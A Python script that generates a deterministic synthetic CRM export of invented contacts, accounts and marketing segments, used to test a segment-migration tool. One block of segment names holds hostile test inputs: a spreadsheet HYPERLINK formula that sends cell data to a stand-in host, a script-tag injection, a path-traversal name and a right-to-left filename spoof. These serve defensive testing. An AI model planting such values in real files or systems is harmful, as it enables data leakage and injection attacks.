"""Makes `sample_exports/contoso`: an invented organisation with every kind of segment. Same seed, same bytes.

Run it from the repository with `make sample`. The sandbox is filled from the result, and `migrator run --from` takes
it as an export. The people, companies and addresses are made up; mail addresses end in the reserved `.example`.
"""

from __future__ import annotations

import csv
import io
import json
import random
import shutil
from collections.abc import Callable, Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from uuid import UUID

from make_consent import Consents

from migrator.contracts.export_folder import OrganisationRef
from migrator.contracts.export_writing import ExportWriter
from migrator.contracts.members import Members, MemberSource
from migrator.evaluator import EvaluationError, Tables
from migrator.mql import Column, ManyToMany, ManyToOne, QueryError, Schema, Table, parse_outbound
from migrator.product.codes import LegacyStatus, LegacyType, Scope

HERE = Path(__file__).resolve().parent / "contoso"
CONTACTS, ACCOUNTS, REGISTRATIONS, LEADS = 5_000, 300, 2_500, 400
NOW = datetime(2026, 4, 20, 8, 0, tzinfo=UTC)
ORGANISATION = OrganisationRef(UUID("c0470500-5a3b-4d1e-9b00-000000000001"), "https://contoso.crm4.dynamics.com")
ROOT_UNIT = "0b4b85cc-7f6c-ea11-a811-000d3a54d359"
NORTH_UNIT = "0b4b85cc-7f6c-ea11-a811-000d3a54d360"

FIRST = [
    "Ana",
    "Anna",
    "Alejandro",
    "Amélie",
    "Ayşe",
    "Björn",
    "Brigitte",
    "Chloé",
    "Dagny",
    "Daniel",
    "Dmitri",
    "Élodie",
    "Emil",
    "Fatima",
    "François",
    "Giulia",
    "Håkon",
    "Hiroshi",
    "Ingrid",
    "Ioana",
    "Jakub",
    "Jana",
    "João",
    "José",
    "Jürgen",
    "Kateřina",
    "Krzysztof",
    "Lars",
    "Léa",
    "Liam",
    "Linh",
    "Łukasz",
    "Maja",
    "Marek",
    "María",
    "Mehmet",
    "Mei",
    "Mia",
    "Müge",
    "Niamh",
    "Noah",
    "Noor",
    "Ólafur",
    "Olga",
    "Omar",
    "Paul",
    "Petra",
    "Priya",
    "Renée",
    "Ruth",
    "Sanna",
    "Siobhán",
    "Søren",
    "Sofía",
    "Tomáš",
    "Ulrike",
    "Văn",
    "Wei",
    "Xiomara",
    "Yasmin",
    "Yūki",
    "Zoë",
    "Žofie",
    "Александр",
    "Ольга",
    "Δημήτρης",
    "Ελένη",
    "محمد",
    "ليلى",
    "伟",
    "芳",
    "太郎",
    "花子",
    "דוד",
]
LAST = [
    "Müller",
    "Nowak",
    "García",
    "O'Brien",
    "O'Neill",
    "D'Angelo",
    "Ångström",
    "Østergård",
    "Þórsson",
    "Çelik",
    "Šimek",
    "Kovács",
    "Popescu",
    "Dubois",
    "Lefèvre",
    "Rossi",
    "Bianchi",
    "Silva",
    "Gonçalves",
    "Jansen",
    "de~Vries",
    "van~den~Berg",
    "Schmidt",
    "Weiß",
    "Novák",
    "Horváth",
    "Ivanov",
    "Петрова",
    "Παπαδόπουλος",
    "Nguyễn",
    "Trần",
    "Kim",
    "Park",
    "Li",
    "Wang",
    "Satō",
    "Suzuki",
    "Khan",
    "Patel",
    "Singh",
    "Cohen",
    "Haddad",
    "الخطيب",
    "Smith",
    "Jones",
    "Smith-Jones",
    "McDonald",
    "Brown",
    "Taylor",
    "Wright",
    "Lindqvist",
    "Virtanen",
    "Nieminen",
    "Hansen",
    "Olsen",
]
CITIES = [
    ("NewYork", "US"), ("NewJersey", "US"), ("Chicago", "US"), ("Berlin", "DE"), ("München", "DE"), ("Hamburg", "DE"),
    ("Köln", "DE"), ("Wien", "AT"), ("Zürich", "CH"), ("Paris", "FR"), ("Lyon", "FR"), ("Madrid", "ES"),
    ("Málaga", "ES"), ("Lisboa", "PT"), ("Roma", "IT"), ("Kraków", "PL"), ("Łódź", "PL"), ("Praha", "CZ"),
    ("København", "DK"), ("Malmö", "SE"), ("Oslo", "NO"), ("İstanbul", "TR"), ("London", "GB"), ("Dublin", "IE"),
    ("Αθήνα", "GR"), ("東京", "JP"), ("北京", "CN"), ("São Paulo", "BR"),
]  # fmt: skip
COMPANY = ("Contoso", "Fabrikam", "Adventure Works", "Northwind", "Tailspin", "Litware", "Proseware", "Wingtip")
FORM = ("Ltd", "GmbH", "S.A.", "AB", "Inc.", "d.o.o.", "& Co. KG", "株式会社")
SEED_CONTACTS = ("1405f4ba-1ee9-e811-a99d-000d3a35f12f", "0604cdd1-1ee9-e811-a99d-000d3a35f12f")
SEED_ACCOUNT = "1cc00a15-37ef-e911-a81d-000d3a6d200c"

Row = dict[str, Any]


def schema() -> Schema:
    text, whole, money, moment = Column("String"), Column("Integer"), Column("Money"), Column("DateTime")
    key, yes_no, choice, state = Column("Uniqueidentifier"), Column("Boolean"), Column("Picklist"), Column("State")
    names = dict.fromkeys(("firstname", "lastname", "fullname", "jobtitle", "emailaddress1", "telephone1"), text)
    places = dict.fromkeys(("address1_city", "address1_county", "address1_country"), text)
    interaction = {
        "msdynmkt_interactionid": key,
        "msdynmkt_entityid": Column("Lookup", targets=("contact",)),
        "msdynmkt_entityid_logicalname": Column("EntityName"),
        "msdynmkt_sourcesystem": choice,
        "msdynmkt_originaltimestamp": moment,
        "msdynmkt_journeyid": key,
    }
    return Schema(
        tables={
            "contact": Table(
                "contacts", "contactid", "fullname",
                {
                    "contactid": key, **names, **places, "birthdate": moment, "gendercode": choice,
                    "preferredcontactmethodcode": choice, "donotemail": yes_no, "donotbulkemail": yes_no, "creditlimit": money,
                    "numberofchildren": whole, "createdon": moment, "statecode": state,
                    "parentcustomerid": Column("Lookup", targets=("account",)),
                    "new_ageinyears": Column("Integer", source=1), "entityimage": Column("Virtual"),
                },
            ),
            "account": Table(
                "accounts", "accountid", "name",
                {
                    "accountid": key, "name": text, "industrycode": choice, "revenue": money,
                    "numberofemployees": whole, "address1_city": text, "statecode": state,
                    "primarycontactid": Column("Lookup", targets=("contact",)),
                },
            ),
            "msevtmgt_eventregistration": Table(
                "msevtmgt_eventregistrations", "msevtmgt_eventregistrationid", "msevtmgt_name",
                {
                    "msevtmgt_eventregistrationid": key, "msevtmgt_name": text, "msevtmgt_eventname": text,
                    "msevtmgt_contactid": Column("Lookup", targets=("contact",)),
                    "msevtmgt_iscanceled": yes_no, "createdon": moment,
                },
            ),
            "lead": Table(
                "leads", "leadid", "fullname",
                {
                    "leadid": key, "fullname": text, "emailaddress1": text, "companyname": text,
                    "leadqualitycode": choice, "estimatedvalue": money, "statecode": state,
                    "parentcontactid": Column("Lookup", targets=("contact",)),
                },
                change_tracking=False,
            ),
            "accountleads": Table(
                "accountleadscollection", "accountleadid", "accountleadid",
                {"accountleadid": key, "accountid": key, "leadid": key},
            ),
            "msdynmkt_emailopened": Table(
                "msdynmkt_emailopeneds", "msdynmkt_interactionid", "msdynmkt_interactionid", interaction
            ),
            "msdynmkt_emaillinkclicked": Table(
                "msdynmkt_emaillinkclickeds", "msdynmkt_interactionid", "msdynmkt_interactionid",
                {**interaction, "msdynmkt_link": text},
            ),
        },
        many_to_one=(
            ManyToOne("contact_customer_accounts", "contact", "parentcustomerid", "account", "accountid"),
            ManyToOne("account_primary_contact", "account", "primarycontactid", "contact", "contactid"),
            ManyToOne(
                "msevtmgt_contact_msevtmgt_eventregistration_contact",
                "msevtmgt_eventregistration", "msevtmgt_contactid", "contact", "contactid",
            ),
            ManyToOne("lead_parent_contact", "lead", "parentcontactid", "contact", "contactid"),
        ),
        many_to_many=(
            ManyToMany("accountleads_association", "accountleads", "account", "accountid", "lead", "leadid"),
        ),
    )  # fmt: skip


class World:
    """The rows of all tables, made from one seed."""

    def __init__(self, seed: int = 20260420) -> None:
        self.random = random.Random(seed)
        self.accounts = [self.account(n) for n in range(ACCOUNTS)]
        self.contacts = [self.contact(n) for n in range(CONTACTS)]
        for account in self.accounts:
            if self.random.random() < 0.7:
                account["primarycontactid"] = self.random.choice(self.contacts)["contactid"]
        self.registrations = [self.registration() for _ in range(REGISTRATIONS)]
        self.leads = [self.lead() for _ in range(LEADS)]
        self.account_leads = [
            {
                "accountleadid": self.id(),
                "accountid": self.random.choice(self.accounts)["accountid"],
                "leadid": lead["leadid"],
            }
            for lead in self.leads[: LEADS // 2]
        ]
        self.opened = [self.interaction() for _ in range(900)]
        self.clicked = [self.interaction() | {"msdynmkt_link": f"https://contoso.example/{n % 7}"} for n in range(400)]

    def id(self) -> str:
        return str(UUID(int=self.random.getrandbits(128), version=4))

    def maybe(self, share: float, value: Any) -> Any:
        return value if self.random.random() < share else None

    def day(self, first: int, last: int) -> str:
        start, end = datetime(first, 1, 1, tzinfo=UTC), datetime(last, 4, 1, tzinfo=UTC)
        moment = start + timedelta(minutes=self.random.randrange(int((end - start).total_seconds() // 60)))
        return moment.strftime("%Y-%m-%dT%H:%M:%SZ")

    def account(self, n: int) -> Row:
        name = f"{self.random.choice(COMPANY)} {self.random.choice(FORM)} {n}" if n else "Contoso"
        return {
            "accountid": self.id() if n else SEED_ACCOUNT,
            "name": name,
            "industrycode": self.maybe(0.8, self.random.randint(1, 33)),
            "revenue": self.maybe(0.7, self.random.randint(1, 900) * 10_000),
            "numberofemployees": self.maybe(0.8, self.random.randint(1, 5_000)),
            "address1_city": self.random.choice(CITIES)[0],
            "statecode": int(self.random.random() < 0.03),
        }

    def contact(self, n: int) -> Row:
        pick = self.random.choice
        first, last = self.maybe(0.96, pick(FIRST)), pick(LAST).replace("~", " ")
        city, country = pick(CITIES)
        # Every thirtieth address is shared by families and offices.
        address = f"office{n % 40}@shared.example" if n % 30 == 0 else f"p{n:04}@mail{n % 17}.example"
        has_account = self.random.random() < 0.55
        return {
            "contactid": SEED_CONTACTS[n] if n < len(SEED_CONTACTS) else self.id(),
            "firstname": first,
            "lastname": last,
            "fullname": f"{first} {last}" if first else last,
            "jobtitle": self.maybe(0.5, pick(("Buyer", "CEO", "Assistant", "Depot manager", "Geschäftsführer"))),
            "emailaddress1": self.maybe(0.78, address),
            "telephone1": self.maybe(0.4, f"+{self.random.randint(1, 99)} {self.random.randint(10**6, 10**8)}"),
            "address1_city": self.maybe(0.9, city),
            "address1_county": self.maybe(0.3, f"{country}-{self.random.randint(1, 9)}"),
            "address1_country": self.maybe(0.9, country),
            "birthdate": self.maybe(0.3, self.day(1945, 2006)[:10]),
            "gendercode": self.maybe(0.6, self.random.randint(1, 2)),
            "preferredcontactmethodcode": self.random.randint(1, 5),
            "donotemail": self.random.random() < 0.08,
            "creditlimit": self.maybe(0.4, self.random.randint(1, 200) * 500),
            "numberofchildren": self.maybe(0.3, self.random.randint(0, 5)),
            "createdon": self.day(2016, 2026),
            "statecode": int(self.random.random() < 0.04),
            "parentcustomerid": pick(self.accounts[:60])["accountid"] if has_account else None,
        }

    def registration(self) -> Row:
        event = self.random.choice(("Hannover 2024", "Hannover 2025", "Webinar: Frühling", "Open house"))
        return {
            "msevtmgt_eventregistrationid": self.id(),
            "msevtmgt_name": f"REG-{self.random.randint(10_000, 99_999)}",
            "msevtmgt_eventname": event,
            "msevtmgt_contactid": self.maybe(0.97, self.random.choice(self.contacts)["contactid"]),
            "msevtmgt_iscanceled": self.random.random() < 0.15,
            "createdon": self.day(2023, 2026),
        }

    def lead(self) -> Row:
        return {
            "leadid": self.id(),
            "fullname": f"{self.random.choice(FIRST)} {self.random.choice(LAST).replace('~', ' ')}",
            "emailaddress1": self.maybe(0.8, f"lead{self.random.randint(1, 999)}@mail.example"),
            "companyname": self.random.choice(COMPANY),
            "leadqualitycode": self.random.randint(1, 3),
            "estimatedvalue": self.maybe(0.5, self.random.randint(1, 90) * 1_000),
            "statecode": 0,
            "parentcontactid": self.maybe(0.3, self.random.choice(self.contacts)["contactid"]),
        }

    def interaction(self) -> Row:
        contact = self.random.choice(self.contacts[:900])["contactid"]
        return {
            "msdynmkt_interactionid": self.id(),
            "msdynmkt_entityid": contact,
            "msdynmkt_entityid_logicalname": "contact" if self.random.random() < 0.95 else "lead",
            "msdynmkt_sourcesystem": 1,
            "msdynmkt_originaltimestamp": self.day(2024, 2026),
            "msdynmkt_journeyid": f"00000000-0000-4000-8000-{self.random.randint(1, 5):012}",
        }

    def tables(self) -> dict[str, list[Row]]:
        return {
            "contact": self.contacts,
            "account": self.accounts,
            "msevtmgt_eventregistration": self.registrations,
            "lead": self.leads,
            "accountleads": self.account_leads,
            "msdynmkt_emailopened": self.opened,
            "msdynmkt_emaillinkclicked": self.clicked,
        }


class Segments:
    """The rows of `msdyncrm_segment` with their member lists, where there is one."""

    def __init__(self, world: World, tables: Tables) -> None:
        self.world, self.tables = world, tables
        self.rows: list[Row] = []
        self.members: dict[str, list[UUID]] = {}
        self.pending: dict[str, Row] = {}

    def add(self, name: str, kind: LegacyType, status: int, query: str = "", **extra: Any) -> str:
        identity = self.world.id()
        # Status 4 is the only one whose statecode is 1.
        row = {
            "msdyncrm_segmentid": identity,
            "msdyncrm_segmentname": name,
            "msdyncrm_segmenttype": int(kind),
            "statuscode": int(status),
            "statecode": int(status == LegacyStatus.EXPIRED),
            "msdyncrm_segmentqueryname": f"SEGMENT_CRM_ID_{identity.replace('-', '')}",
            "msdyncrm_segmentquery": query or None,
            "msdyncrm_query": None,
            "msdyncrm_segmentmemberids": None,
            "msdyncrm_segmentsize": None,
            "msdyncrm_description": None,
            "msdyncrm_scope": int(Scope.ORGANISATION),
            "msdyncrm_querytype": 192350000 if "INTERACTION" in query else 192350001,
            "msdyncrm_segmenttimezone": 110,
            "msdyncrm_segmentrefreshrateintervalminutes": 60,
            "msdyncrm_segmenttargetprofiletypename": "contact",
            "msdyncrm_externalsource": None,
            "msdyncrm_islive": status in (LegacyStatus.LIVE, LegacyStatus.LIVE_EDITABLE),
            "_owningbusinessunit_value": ROOT_UNIT,
            "_ownerid_value": "5f1c2f7e-0d2b-4f0e-8f7e-0000000000a1",
            "_createdby_value": "5f1c2f7e-0d2b-4f0e-8f7e-0000000000a1",
            "_createdby_value@OData.Community.Display.V1.FormattedValue": self.world.random.choice(
                ("Renée Østergård", "J. O'Neill", "Marketing-Dienst")
            ),
            "createdon": self.world.day(2018, 2025),
            "modifiedon": "2026-03-31T12:00:00Z",
            **extra,
        }
        self.rows.append(row)
        return identity

    def static(
        self, name: str, status: int, size: int, *, in_row: bool = False, recorded: bool = True, **extra: Any
    ) -> str:
        """Add a static segment with `size` members in the service's store, and in its row too where asked."""
        chosen = sorted(self.world.random.sample(range(CONTACTS), size))
        ids = [UUID(self.world.contacts[n]["contactid"]) for n in chosen]
        identity = self.add(name, LegacyType.STATIC, status, **extra)
        if in_row:
            self.rows[-1].setdefault("msdyncrm_segmentmemberids", None)
            if self.rows[-1]["msdyncrm_segmentmemberids"] is None:
                self.rows[-1]["msdyncrm_segmentmemberids"] = json.dumps([f"crm{member}" for member in ids])
        if recorded:
            self.rows[-1].setdefault("msdyncrm_segmentsize", None)
            self.rows[-1]["msdyncrm_segmentsize"] = extra.get("msdyncrm_segmentsize", size)
        self.members[identity] = sorted(ids, key=str)
        return identity

    def query(self, name: str, status: int, query: str, kind: LegacyType = LegacyType.DYNAMIC, **extra: Any) -> str:
        """Add a dynamic or compound segment; live ones get the members that their query selects."""
        identity = self.add(name, kind, status, query, **extra)
        text = query or str(extra.get("msdyncrm_query", ""))
        if status != LegacyStatus.DRAFT:
            try:
                self.members[identity] = sorted(self.tables.outbound(parse_outbound(text), self.named), key=str)
                self.rows[-1]["msdyncrm_segmentsize"] = len(self.members[identity])
            except (QueryError, EvaluationError):
                pass  # the segments that are wrong on purpose
        return identity

    def named(self, name: str) -> Sequence[UUID]:
        for row in self.rows:
            if name in (row["msdyncrm_segmentqueryname"], row["msdyncrm_segmentname"]):
                return self.members[row["msdyncrm_segmentid"]]
        raise EvaluationError(f"there is no segment {name}")


def fill(segments: Segments) -> None:
    live, stopped = LegacyStatus.LIVE, LegacyStatus.STOPPED
    static, query, world = segments.static, segments.query, segments.world

    def reference(identity: str) -> str:
        return f"SEGMENT(SEGMENT_CRM_ID_{identity.replace('-', '')})"

    # The examples of the seed documents, by name and query.
    static("StaticSegmentApi1", LegacyStatus.DRAFT, 0, recorded=False)
    segments.rows[-1]["msdyncrm_segmentmemberids"] = json.dumps([f"crm{member}" for member in SEED_CONTACTS])
    segments.members[segments.rows[-1]["msdyncrm_segmentid"]] = sorted(map(UUID, SEED_CONTACTS), key=str)
    query(
        "Customers with name and email", live,
        "PROFILE(contact, contact_1).FILTER(ISNOTNULL(contact_1.emailaddress1) && ISNOTNULL(contact_1.fullname))",
    )  # fmt: skip
    query("MySegment2", live, "PROFILE(contact).FILTER((address1_city == 'NewYork' || address1_city == 'NewJersey'))")
    static("segment1", live, 300)
    static("segment2", live, 200)
    query(
        "my_compound_segment1",
        live,
        "",
        LegacyType.COMPOUND,
        msdyncrm_query="SEGMENT(segment1) UNION SEGMENT(segment2)",
    )
    query(
        "Contoso people", live,
        f"PROFILE(account, account_1).FILTER(account_1.accountid == '{SEED_ACCOUNT}')"
        ".TRAVERSE(contact_account_parentcustomerid, contact_1).FILTER(ISNOTNULL(contact_1.emailaddress1))",
    )  # fmt: skip

    # Static segments: every size and every status.
    newsletter = static("Newsletter subscribers", live, 4_000)
    static("Hannover 2024: badge scans", live, 1_200, in_row=True, msdyncrm_description="Stand 4B, scanned by hand.")
    vip = static("VIP customers", LegacyStatus.LIVE_EDITABLE, 85, in_row=True)
    static("Waiting list (nobody yet)", live, 0)
    static("Press", stopped, 37, in_row=True)
    static("Prospects 2019", LegacyStatus.EXPIRED, 260)
    static("Import that broke", LegacyStatus.ERROR, 45)
    static("Spring campaign", LegacyStatus.GOING_LIVE, 150)
    static("Autumn campaign", LegacyStatus.STOPPING, 60)
    static("Loyalty programme", live, 999)
    static("One person", live, 1, in_row=True)
    static("Exactly a thousand", live, 1_000)

    # Static segments with a catch.
    unknown = static("Some members no longer exist", live, 25, recorded=False)
    ids = [f"crm{member}" for member in segments.members[unknown]]
    gone = [f"crm{world.id()}" for _ in range(3)]
    segments.rows[-1] |= {"msdyncrm_segmentmemberids": json.dumps(ids + gone), "msdyncrm_segmentsize": 28}
    lost = static("Members lost with the old module", live, 0)
    segments.rows[-1]["msdyncrm_segmentsize"] = 512
    del segments.members[lost]
    pending = static("Members still being added", live, 100)
    added = [world.contacts[n]["contactid"] for n in range(0, 400, 10)]
    segments.pending[pending] = {"operation": "addByIds", "ids": added}
    static("Mirrored from Customer Insights - Data", live, 300, msdyncrm_externalsource=192350000)
    dirty = static("Ids in every spelling", stopped, 6)
    good = [str(member) for member in segments.members[dirty]]
    spelled = [f"crm{good[0]}", good[1].upper(), "{" + good[2] + "}", good[3].replace("-", ""), good[4], good[5]]
    segments.rows[-1]["msdyncrm_segmentmemberids"] = json.dumps([*spelled, good[0], "not-an-id"])
    inactive = [UUID(row["contactid"]) for row in world.contacts if row["statecode"]][:20]
    mixed = static("Customers of the old shop", live, 40)
    segments.members[mixed] = sorted({*segments.members[mixed], *inactive}, key=str)
    segments.rows[-1]["msdyncrm_segmentsize"] = len(segments.members[mixed])
    static("Northern branch", live, 70, msdyncrm_scope=int(Scope.BUSINESS_UNIT), _owningbusinessunit_value=NORTH_UNIT)
    static("Status from the future", 192350099, 5)
    static("Long description", stopped, 8, msdyncrm_description="Why these people were chosen. " * 50)

    # Names that mean harm, and names that only look strange.
    static('=HYPERLINK("http://evil.example/?x="&A1,"Click me")', live, 12)
    static("<script>alert('segment')</script>", live, 11)
    static("../../x", live, 10)
    static("قائمة العملاء \u202egnp.exe", live, 9)
    static(
        "A name of exactly one hundred characters, which is as long as outbound marketing would ever allow it", live, 7
    )
    static("Newsletter subscribers", stopped, 10)

    # Dynamic segments over contact alone.
    query("Germany, may be mailed", live, "PROFILE(contact).FILTER(address1_country == 'DE' && donotemail == False)")
    query(
        "Buyers or chiefs, not in London", live,
        "PROFILE(contact, c).FILTER((c.jobtitle == 'Buyer' OR c.jobtitle == 'CEO') AND NOT(c.address1_city == 'London'))",
    )  # fmt: skip
    query("O'Briens", stopped, "PROFILE(contact).FILTER(lastname == 'O\\'Brien')")
    query("Depot", live, "PROFILE(contact).FILTER(jobtitle CONTAINS 'depot')")
    query("M… and …ez", live, "PROFILE(contact).FILTER(firstname STARTSWITH 'M' && lastname ENDSWITH 's')")
    query("Since 2020", live, "PROFILE(contact).FILTER(createdon >= DATE(2020, 1, 1) && creditlimit / 2 > 20000)")
    query("Nobody has seven children", live, "PROFILE(contact).FILTER(numberofchildren == 7)")
    query("An idea", LegacyStatus.DRAFT, "PROFILE(contact).FILTER(address1_city == '東京')")
    query("Unfinished idea", LegacyStatus.DRAFT, "")
    query("Query in the other column", live, "", msdyncrm_query="PROFILE(contact).FILTER(ISNOTNULL(address1_county))")
    query(
        "Two columns, two queries", live, "PROFILE(contact).FILTER(address1_city == 'Paris')",
        msdyncrm_query="PROFILE(contact).FILTER(address1_city == 'Lyon')",
    )  # fmt: skip
    query("A slip of the pen", LegacyStatus.ERROR, "PROFILE(contact).FILTER(address1_city = 'Oslo')")
    query("Column that was deleted", LegacyStatus.ERROR, "PROFILE(contact).FILTER(new_favouritecolour == 'blue')")
    query("Older than forty", LegacyStatus.ERROR, "PROFILE(contact).FILTER(new_ageinyears > 40)")
    query(
        "Mailable, without Poland", live,
        "PROFILE(contact).FILTER(donotemail == False && ISNOTNULL(jobtitle)) EXCEPT PROFILE(contact).FILTER(address1_country == 'PL')",
    )  # fmt: skip

    # Through other tables, and by behaviour.
    query(
        "Came to Hannover 2025", live,
        "PROFILE(msevtmgt_eventregistration, r).FILTER(r.msevtmgt_eventname == 'Hannover 2025' && r.msevtmgt_iscanceled == False)"
        ".TRAVERSE(msevtmgt_eventregistration_contact_msevtmgt_contactid, c)",
    )  # fmt: skip
    query("Opened a mail twice", live, "INTERACTION(EmailOpened, contactId).HAVING(COUNT() >= 2)")
    query(
        "Clicked the spring offer", stopped,
        "INTERACTION(EmailLinkClicked, contactId).FILTER(link == 'https://contoso.example/3').HAVING(COUNT() > 0, UTCYEARS(5))",
    )  # fmt: skip

    # Compound segments.
    both = query(
        "Newsletter without VIPs", live, f"{reference(newsletter)} EXCEPT {reference(vip)}", LegacyType.COMPOUND
    )
    query(
        "Nested compound", stopped, f"{reference(both)} INTERSECT PROFILE(contact).FILTER(donotemail == False)",
        LegacyType.COMPOUND,
    )  # fmt: skip
    query("Compound draft", LegacyStatus.DRAFT, f"{reference(newsletter)} UNION {reference(vip)}", LegacyType.COMPOUND)


def main() -> None:
    shutil.rmtree(HERE, ignore_errors=True)
    world, model = World(), schema()
    tables = Tables(model, now=lambda: NOW)
    consents = Consents(world.contacts)
    for name, rows in world.tables().items():
        tables.fill(name, rows)
    segments = Segments(world, tables)
    fill(segments)

    writer = ExportWriter(HERE, ORGANISATION, NOW.strftime("%Y-%m-%dT%H:%M:%SZ"))
    writer.segments(segments.rows)
    for row in segments.rows:
        identity = UUID(row["msdyncrm_segmentid"])
        ids = segments.members.get(str(identity))
        if ids is not None:
            writer.members(identity, ids, Members(MemberSource.SERVICE))
        elif row["msdyncrm_segmenttype"] == LegacyType.STATIC:
            why = "the outbound service has no list for it, and its row holds no ids"
            writer.no_members(identity, Members(MemberSource.NONE, reason=why))
        else:
            why = "its query is not computed"
            writer.no_members(identity, Members(MemberSource.NONE, reason=why))
    writer.metadata(model)
    for name, rows in world.tables().items():
        writer.file(f"tables/{name}.csv", table_csv(list(model.tables[name].columns), rows))
    for file, content in consents.files(table_csv).items():
        writer.file(file, content)
    organisation = {
        "organisation": {"id": str(ORGANISATION.id), "name": "Contoso (sample)"},
        "business_units": [{"id": ROOT_UNIT, "name": "Contoso"}, {"id": NORTH_UNIT, "name": "Contoso North"}],
        "pending_operations": segments.pending,
    }
    writer.file("sandbox.json", (json.dumps(organisation, indent=1) + "\n").encode())
    writer.finish()
    print(f"{len(segments.rows)} segments, {sum(map(len, segments.members.values())):,} members in {HERE}")


def table_csv(columns: Sequence[str], rows: Sequence[Row]) -> bytes:
    text = io.StringIO()
    writer = csv.writer(text, lineterminator="\n")
    stored = [column for column in columns if any(row.get(column) is not None for row in rows)]
    writer.writerow(stored)
    shown: Callable[[Any], Any] = lambda value: str(value).lower() if isinstance(value, bool) else value  # noqa: E731
    writer.writerows([shown(row.get(column)) for column in stored] for row in rows)
    return text.getvalue().encode()


if __name__ == "__main__":
    main()
